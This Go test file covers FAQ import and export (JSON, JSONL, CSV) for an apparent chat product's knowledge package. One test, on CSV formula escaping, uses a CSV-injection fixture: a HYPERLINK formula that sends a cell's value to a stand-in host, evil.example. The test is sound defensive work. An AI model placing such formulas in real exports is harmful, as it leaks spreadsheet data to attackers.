package knowledge_test

import (
	"bytes"
	"encoding/csv"
	"math"
	"strings"
	"testing"

	"github.com/tandem-chat/tandem"
	"github.com/tandem-chat/tandem/knowledge"
)

func TestParseImportRowErrors(t *testing.T) {
	tests := []struct {
		name   string
		format knowledge.Format
		body   string
		rows   int
		bad    map[int]string // row -> substring of the error
		fatal  string
	}{
		{"json ok", knowledge.FormatJSON, `[{"external_id":"a","question":"Q?","answer":"A"}]`, 1, nil, ""},
		{"json envelope", knowledge.FormatJSON, `{"items":[{"external_id":"a","question":"Q?","answer":"A"}]}`, 1, nil, ""},
		{"json unknown field", knowledge.FormatJSON, `[{"external_id":"a","question":"Q?","answer":"A","colour":"red"}]`, 1, map[int]string{0: `unknown field "colour"`}, ""},
		{"json wrong type", knowledge.FormatJSON, `[{"external_id":"a","question":"Q?","answer":"A","tags":"x"}]`, 1, map[int]string{0: "tags"}, ""},
		{"json malformed", knowledge.FormatJSON, `[{"external_id":"a",`, 0, nil, "malformed JSON"},
		{"json not array", knowledge.FormatJSON, `"hello"`, 0, nil, "array"},
		{"json missing ext", knowledge.FormatJSON, `[{"question":"Q?","answer":"A"}]`, 1, map[int]string{0: "external_id: required"}, ""},
		{"json id without ext", knowledge.FormatJSON, `[{"id":"faq_1","question":"Q?","answer":"A"}]`, 1, nil, ""},
		{"json duplicate id", knowledge.FormatJSON, `[{"id":"faq_1","question":"Q?","answer":"A"},{"id":"faq_1","question":"R?","answer":"B"}]`, 2, map[int]string{1: "duplicates row 1"}, ""},
		{"json bad id", knowledge.FormatJSON, `[{"id":"a b","question":"Q?","answer":"A"}]`, 1, map[int]string{0: "id"}, ""},
		// Ids go into URL paths; text that shows nothing is empty.
		{"json dot ids", knowledge.FormatJSON, `[{"id":"..","question":"Q?","answer":"A"},{"id":"?x=1","question":"R?","answer":"B"},{"id":"a#b","question":"S?","answer":"C"},{"id":"faq+1@ü","question":"T?","answer":"D"}]`, 4, map[int]string{0: "id", 1: "id", 2: "id"}, ""},
		{"json invisible text", knowledge.FormatJSON, `[{"external_id":"a","question":"\u200b\u200b","answer":"A"},{"external_id":"b","question":"Q?","answer":" \u2060 "}]`, 2, map[int]string{0: "question: has no visible", 1: "answer: has no visible"}, ""},
		{"csv id only", knowledge.FormatCSV, "id,question,answer\nfaq_1,Q?,A\n,R?,B\n", 2, map[int]string{1: "external_id: required"}, ""},
		{"csv no key column", knowledge.FormatCSV, "question,answer\nQ?,A\n", 0, nil, "external_id"},
		{"json envelope trailing", knowledge.FormatJSON, `{"items":[{"external_id":"a","question":"Q?","answer":"A"}]} {"items":[]} garbage`, 0, nil, "trailing data"},
		{"json envelope trailing garbage", knowledge.FormatJSON, `{"items":[]}x`, 0, nil, "trailing data"},
		{"json envelope trailing space", knowledge.FormatJSON, "{\"items\":[{\"external_id\":\"a\",\"question\":\"Q?\",\"answer\":\"A\"}]}\n\t ", 1, nil, ""},
		{"json duplicate ext", knowledge.FormatJSON, `[{"external_id":"a","question":"Q?","answer":"A"},{"external_id":"a","question":"R?","answer":"B"}]`, 2, map[int]string{1: "duplicates row 1"}, ""},
		{"json oversized", knowledge.FormatJSON, `[{"external_id":"a","question":"` + strings.Repeat("x", 501) + `","answer":"A"}]`, 1, map[int]string{0: "question"}, ""},
		{"jsonl", knowledge.FormatJSONL, "{\"external_id\":\"a\",\"question\":\"Q?\",\"answer\":\"A\"}\n\n{\"external_id\":\"b\",\"question\":\"R?\"\n", 2, map[int]string{1: "ends before the JSON object does"}, ""},
		{"jsonl invalid utf8", knowledge.FormatJSONL, "{\"external_id\":\"a\",\"question\":\"Q\xff?\",\"answer\":\"A\"}\n", 1, map[int]string{0: "UTF-8"}, ""},
		{"csv ok", knowledge.FormatCSV, "external_id,question,answer,tags\na,Q?,A,x|y\n", 1, nil, ""},
		{"csv wrong field count", knowledge.FormatCSV, "external_id,question,answer\na,Q?,A\nb,R?\n", 2, map[int]string{1: "2 fields"}, ""},
		{"csv bad quote", knowledge.FormatCSV, "external_id,question,answer\na,\"Q?,A\n", 0, nil, "malformed CSV"},
		{"csv unknown column", knowledge.FormatCSV, "external_id,question,answer,colour\n", 0, nil, "unknown column"},
		{"csv missing column", knowledge.FormatCSV, "question,answer\n", 0, nil, "external_id"},
		{"csv bad threshold", knowledge.FormatCSV, "external_id,question,answer,threshold\na,Q?,A,high\n", 1, map[int]string{0: "threshold"}, ""},
		{"csv invalid utf8", knowledge.FormatCSV, "external_id,question,answer\na,Q\xfe,A\n", 1, map[int]string{0: "UTF-8"}, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			recs, err := knowledge.ParseImport(strings.NewReader(tc.body), tc.format)
			if tc.fatal != "" {
				if err == nil || tandem.ErrorCode(err) != tandem.EINVALID || !strings.Contains(err.Error(), tc.fatal) {
					t.Fatalf("err = %v, want invalid containing %q", err, tc.fatal)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if len(recs) != tc.rows {
				t.Fatalf("%d rows, want %d", len(recs), tc.rows)
			}
			for i, r := range recs {
				want, bad := tc.bad[i]
				switch {
				case bad && (r.Err == nil || !strings.Contains(r.Err.Error(), want)):
					t.Errorf("row %d err = %v, want %q", i, r.Err, want)
				case !bad && r.Err != nil:
					t.Errorf("row %d unexpected err %v", i, r.Err)
				}
				if r.Row != i+1 || r.Line == 0 {
					t.Errorf("row %d numbered %d line %d", i, r.Row, r.Line)
				}
			}
		})
	}
}

func TestExportImportRoundTrip(t *testing.T) {
	items := []tandem.FAQ{
		{ID: "faq_1", ExternalID: "a", Question: "Q, with comma?", Phrasings: []string{"one", "two | three"}, Answer: "Line 1\nLine \"2\"", Tags: []string{"x", "y"}, Locale: "en", Status: tandem.FAQPublished, Threshold: 0.5, Version: 3},
		{ID: "faq_2", ExternalID: "b", Question: "Über?", Answer: "Ja.", Locale: "de", Status: tandem.FAQDraft, Intent: "greet"},
		{ID: "faq_3", ExternalID: "c", Question: "Cards?", Phrasings: []string{"visa|mastercard ok?"}, Answer: "Line one\r\nLine two\rthree", Locale: "en", Status: tandem.FAQPublished},
		{ID: "faq_4", Question: "No external id?", Phrasings: []string{"|"}, Answer: "Yes", Locale: "en", Status: tandem.FAQDraft},
	}
	for _, f := range []knowledge.Format{knowledge.FormatJSON, knowledge.FormatJSONL, knowledge.FormatCSV} {
		var buf bytes.Buffer
		e, err := knowledge.NewExporter(&buf, f)
		if err != nil {
			t.Fatal(err)
		}
		for _, it := range items {
			if err := e.Write(it); err != nil {
				t.Fatal(err)
			}
		}
		if err := e.Close(); err != nil {
			t.Fatal(err)
		}
		recs, err := knowledge.ParseImport(&buf, f)
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		if len(recs) != len(items) {
			t.Fatalf("%s: %d rows", f, len(recs))
		}
		for i, r := range recs {
			if r.Err != nil {
				t.Fatalf("%s row %d: %v", f, i, r.Err)
			}
			want, _ := knowledge.Normalize(items[i])
			if strings.Contains(want.Answer, "\r") {
				t.Fatalf("Normalize kept a carriage return: %q", want.Answer)
			}
			if !knowledge.SameContent(r.FAQ, want) || r.FAQ.ID != want.ID && want.ExternalID == "" {
				t.Errorf("%s row %d: got %+v want %+v", f, i, r.FAQ, want)
			}
		}
	}
}

func FuzzParseImport(f *testing.F) {
	f.Add([]byte(`[{"external_id":"a","question":"Q?","answer":"A"}]`), uint8(0))
	f.Add([]byte("{\"external_id\":\"a\",\"question\":\"Q?\",\"answer\":\"A\"}\n"), uint8(1))
	f.Add([]byte("external_id,question,answer\na,Q?,A\n"), uint8(2))
	formats := []knowledge.Format{knowledge.FormatJSON, knowledge.FormatJSONL, knowledge.FormatCSV}
	f.Fuzz(func(t *testing.T, body []byte, which uint8) {
		recs, err := knowledge.ParseImport(bytes.NewReader(body), formats[int(which)%3])
		if err != nil {
			if tandem.ErrorCode(err) != tandem.EINVALID {
				t.Fatalf("non-client error: %v", err)
			}
			return
		}
		seen := map[string]bool{}
		for _, r := range recs {
			if r.Err != nil {
				continue
			}
			if _, err := knowledge.Normalize(r.FAQ); err != nil {
				t.Fatalf("accepted row does not normalise: %v", err)
			}
			if seen[r.FAQ.ExternalID] {
				t.Fatalf("duplicate external id %q accepted", r.FAQ.ExternalID)
			}
			seen[r.FAQ.ExternalID] = true
		}
	})
}

// CSV phrasings: one per line; a cell without a newline (hand-written or
// older exports) is split on "|".
func TestCSVPhrasings(t *testing.T) {
	body := "external_id,question,answer,phrasings\n" +
		"a,Q?,A,one|two\n" +
		"b,R?,B,\"x|y\nz\"\n" +
		"c,S?,C,\"visa|mastercard ok?\n\"\n"
	recs, err := knowledge.ParseImport(strings.NewReader(body), knowledge.FormatCSV)
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"one", "two"}, {"x|y", "z"}, {"visa|mastercard ok?"}}
	for i, r := range recs {
		if r.Err != nil || strings.Join(r.FAQ.Phrasings, "\x00") != strings.Join(want[i], "\x00") {
			t.Errorf("row %d: %q, %v; want %q", i+1, r.FAQ.Phrasings, r.Err, want[i])
		}
	}
}

// TestImportByteOrderMark: a UTF-8 byte order mark (what Windows editors
// and PowerShell write) starts a JSON or JSONL import as it does a CSV one;
// it was "malformed JSON: invalid character 'ï'" (JSON) or a failed first
// row (JSONL).
func TestImportByteOrderMark(t *testing.T) {
	row := `{"external_id":"bom","question":"With a BOM?","answer":"Yes."}`
	for _, c := range []struct {
		format knowledge.Format
		body   string
	}{
		{knowledge.FormatJSON, "\ufeff[" + row + "]"},
		{knowledge.FormatJSON, "\ufeff{\"items\": [" + row + "]}"},
		{knowledge.FormatJSONL, "\ufeff" + row + "\n" + strings.Replace(row, "bom", "bom2", 1) + "\n"},
		{knowledge.FormatCSV, "\ufeffexternal_id,question,answer\nbom,With a BOM?,Yes.\n"},
	} {
		recs, err := knowledge.ParseImport(strings.NewReader(c.body), c.format)
		if err != nil {
			t.Errorf("%s: %v", c.format, err)
			continue
		}
		for _, r := range recs {
			if r.Err != nil || !strings.HasPrefix(r.FAQ.ExternalID, "bom") {
				t.Errorf("%s: row %d: %+v", c.format, r.Row, r)
			}
		}
	}
}

// TestCSVExportNoFormulas: a CSV export opened in a spreadsheet must not
// run FAQ text as a formula (CSV injection: a cell starting with = + - @
// is evaluated by Excel and LibreOffice), so such cells are written with a
// leading apostrophe, which the import removes again: exports still
// re-import unchanged.
func TestCSVExportNoFormulas(t *testing.T) {
	items := []tandem.FAQ{
		{ID: "faq_1", ExternalID: "=ext", Question: `=HYPERLINK("http://evil.example/?"&A1,"Click")`, Phrasings: []string{"+1 for cmd", "@SUM(1)"},
			Answer: "- step one\n- step two", Category: "@cat", Tags: []string{"-tag", "ok"}, Intent: "+intent", Locale: "en", Status: tandem.FAQPublished},
		{ID: "faq_2", ExternalID: "'quoted", Question: "'=not a formula?", Answer: "''", Locale: "en", Status: tandem.FAQDraft},
	}
	var buf bytes.Buffer
	e, err := knowledge.NewExporter(&buf, knowledge.FormatCSV)
	if err != nil {
		t.Fatal(err)
	}
	for _, it := range items {
		if err := e.Write(it); err != nil {
			t.Fatal(err)
		}
	}
	if err := e.Close(); err != nil {
		t.Fatal(err)
	}
	cells, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range cells[1:] {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
				t.Errorf("cell %q starts a formula", c)
			}
		}
	}
	recs, err := knowledge.ParseImport(bytes.NewReader(buf.Bytes()), knowledge.FormatCSV)
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range recs {
		want, _ := knowledge.Normalize(items[i])
		want.ID = ""
		if r.Err != nil || !knowledge.SameContent(r.FAQ, want) {
			t.Errorf("row %d: got %+v (%v), want %+v", i+1, r.FAQ, r.Err, want)
		}
	}
	// A hand-written leading apostrophe before other text is content.
	recs, _ = knowledge.ParseImport(strings.NewReader("external_id,question,answer\n'a,'Tis the season?,Yes.\n"), knowledge.FormatCSV)
	if recs[0].Err != nil || recs[0].FAQ.ExternalID != "'a" || recs[0].FAQ.Question != "'Tis the season?" {
		t.Errorf("hand-written apostrophes: %+v", recs[0])
	}
}

// TestWrongTypeMessages: a value of the wrong JSON type is reported with
// the field and the expected type in words — not Go's internal type names
// ("knowledge.wireFAQ", "[]string") — and a malformed date names its field.
func TestWrongTypeMessages(t *testing.T) {
	const base = `"external_id":"e","question":"Q?","answer":"A."`
	for body, want := range map[string]string{
		`["a"]`:                                     "expected an FAQ object, got string",
		`[[1]]`:                                     "expected an FAQ object, got array",
		`[{` + base + `,"phrasings":"x"}]`:          `field "phrasings": expected an array of strings, got string`,
		`[{` + base + `,"threshold":"0.5"}]`:        `field "threshold": expected a number, got string`,
		`[{` + base + `,"version":1.5}]`:            `field "version": expected an integer, got number`,
		`[{` + base + `,"tags":[1]}]`:               `field "tags": expected a string, got number`,
		`[{` + base + `,"updated_at":"yesterday"}]`: `field "updated_at": expected a date-time such as 2024-05-01T12:00:00Z`,
		`[{` + base + `,"created_at":5}]`:           `field "created_at": expected a date-time such as 2024-05-01T12:00:00Z`,
	} {
		recs, err := knowledge.ParseImport(strings.NewReader(body), knowledge.FormatJSON)
		if err != nil || len(recs) != 1 || recs[0].Err == nil || !strings.Contains(tandem.ErrorMessage(recs[0].Err), want) {
			var got error
			if len(recs) == 1 {
				got = recs[0].Err
			}
			t.Errorf("%s: %v / %v, want %q", body, err, got, want)
		}
	}
	if _, _, err := knowledge.DecodeFAQ([]byte(`"hello"`)); !strings.Contains(tandem.ErrorMessage(err), "expected an FAQ object, got string") {
		t.Errorf("DecodeFAQ of a string: %v", err)
	}
	// Exported stamps still decode (and are ignored).
	recs, _ := knowledge.ParseImport(strings.NewReader(`[{`+base+`,"created_at":"2024-05-01T12:00:00Z","updated_at":null}]`), knowledge.FormatJSON)
	if recs[0].Err != nil {
		t.Errorf("valid stamps: %v", recs[0].Err)
	}
}

// TestDecodeFAQEmptyOrTruncated: an empty or cut-off body says so — the
// messages were Go's bare "EOF" and "unexpected EOF".
func TestDecodeFAQEmptyOrTruncated(t *testing.T) {
	for body, want := range map[string]string{
		"":                 "empty",
		"   \n":            "empty",
		`{"question":"Q?"`: "ends before the JSON object does",
	} {
		_, _, err := knowledge.DecodeFAQ([]byte(body))
		if tandem.ErrorCode(err) != tandem.EINVALID || !strings.Contains(tandem.ErrorMessage(err), want) {
			t.Errorf("%q: %v, want a message with %q", body, err, want)
		}
	}
	recs, _ := knowledge.ParseImport(strings.NewReader("{\"question\":\"Q?\"\n"), knowledge.FormatJSONL)
	if len(recs) != 1 || !strings.Contains(tandem.ErrorMessage(recs[0].Err), "ends before the JSON object does") {
		t.Errorf("truncated JSONL row: %+v", recs)
	}
}

// TestJSONImportEmptyOrTruncated: an empty JSON import or one cut off
// mid-array says so, instead of "malformed JSON: EOF".
func TestJSONImportEmptyOrTruncated(t *testing.T) {
	for body, want := range map[string]string{
		"":  "empty",
		" ": "empty",
		`[{"external_id":"a","question":"Q?","answer":"A"}`:  "ends before",
		`[{"external_id":"a","question":"Q?","answer":"A"},`: "ends before",
		`{"items": [`: "ends before",
	} {
		_, err := knowledge.ParseImport(strings.NewReader(body), knowledge.FormatJSON)
		if tandem.ErrorCode(err) != tandem.EINVALID || !strings.Contains(tandem.ErrorMessage(err), want) || strings.HasSuffix(tandem.ErrorMessage(err), "EOF") {
			t.Errorf("%q: %v, want a message with %q", body, err, want)
		}
	}
}

// TestCSVSemicolonHeader: a semicolon-separated file (what Excel writes in
// many European locales) is told that columns are separated by commas.
func TestCSVSemicolonHeader(t *testing.T) {
	_, err := knowledge.ParseImport(strings.NewReader("external_id;question;answer\na;Q?;A\n"), knowledge.FormatCSV)
	if tandem.ErrorCode(err) != tandem.EINVALID || !strings.Contains(tandem.ErrorMessage(err), "separated by commas") {
		t.Errorf("semicolon CSV: %v", err)
	}
}

// TestNegativeZeroThreshold: a threshold of -0 is stored as 0, so an
// export does not write "-0" (a cell starting with "-" that the CSV
// export's formula guard would have to escape).
func TestNegativeZeroThreshold(t *testing.T) {
	f, err := knowledge.Normalize(tandem.FAQ{Question: "Thr?", Answer: "a", Threshold: math.Copysign(0, -1)})
	if err != nil {
		t.Fatal(err)
	}
	if math.Signbit(f.Threshold) {
		t.Fatalf("threshold %v keeps its sign", f.Threshold)
	}
}
